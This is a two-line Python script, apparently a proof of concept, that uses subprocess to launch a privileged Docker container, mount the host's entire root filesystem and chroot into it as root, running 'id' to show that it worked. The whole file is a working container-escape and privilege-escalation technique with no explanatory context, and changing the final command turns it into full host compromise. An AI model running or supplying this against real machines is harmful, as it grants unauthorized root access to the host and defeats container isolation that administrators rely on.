import subprocess
subprocess.run(["docker", "run", "--rm", "--privileged", "-v", "/:/host", "alpine", "chroot", "/host", "id"])
